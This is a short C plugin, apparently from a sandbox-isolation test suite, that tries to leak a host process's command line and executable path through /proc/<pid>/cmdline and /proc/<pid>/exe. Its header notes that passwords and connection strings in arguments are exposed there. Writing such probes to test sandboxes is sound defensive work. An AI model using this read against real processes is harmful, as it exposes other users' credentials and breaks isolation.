/*
 * leak_host_cmdline — reads the host's command line from
 * /proc/<host_pid>/cmdline (and its executable path from /proc/<host_pid>/exe).
 * Credentials passed as arguments (--password=..., connection strings) are
 * readable there by default.
 */
#include "attack.h"

static sbx_status attack(const atk_input *in, atk_out *out)
{
    char path[64];
    char exe[4096];
    long host = atk_param_long(in, "host_pid", -1);
    if (host <= 0) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    snprintf(path, sizeof path, "/proc/%ld/cmdline", host);
    int found = atk_cat(out, "cmdline", path);
    snprintf(path, sizeof path, "/proc/%ld/exe", host);
    ssize_t n = readlink(path, exe, sizeof exe - 1);
    if (n > 0) {
        atk_printf(out, "exe: %.*s\n", (int)n, exe);
        found = 1;
    } else {
        atk_failed(out, "readlink exe", errno);
    }
    return found ? SBX_OK : SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
